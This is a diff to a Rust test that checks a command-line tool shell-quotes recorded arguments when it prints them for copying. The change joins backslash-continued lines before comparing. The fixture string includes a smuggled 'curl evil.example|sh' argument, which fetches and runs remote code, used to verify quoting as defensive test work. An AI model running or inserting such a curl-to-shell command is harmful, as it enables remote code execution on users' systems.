@@ -95,7 +95,8 @@ fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
     });
     let quoted = r"tare run ';' 'curl evil.example|sh #' 'it'\''s'";
     let said = program.run(&["report", "changed.tare"]);
-    let unfolded = said.out.split_whitespace().collect::<Vec<_>>().join(" ");
+    // A long line goes on between words, as a shell takes it.
+    let unfolded = said.out.replace("\\\n", "").split_whitespace().collect::<Vec<_>>().join(" ");
     assert!(unfolded.contains(quoted), "{}", said.out);
     let said = program.run(&["run", "--resume", "changed.tare", "--trust"]);
     assert!(said.err.contains(quoted), "{}", said.err);
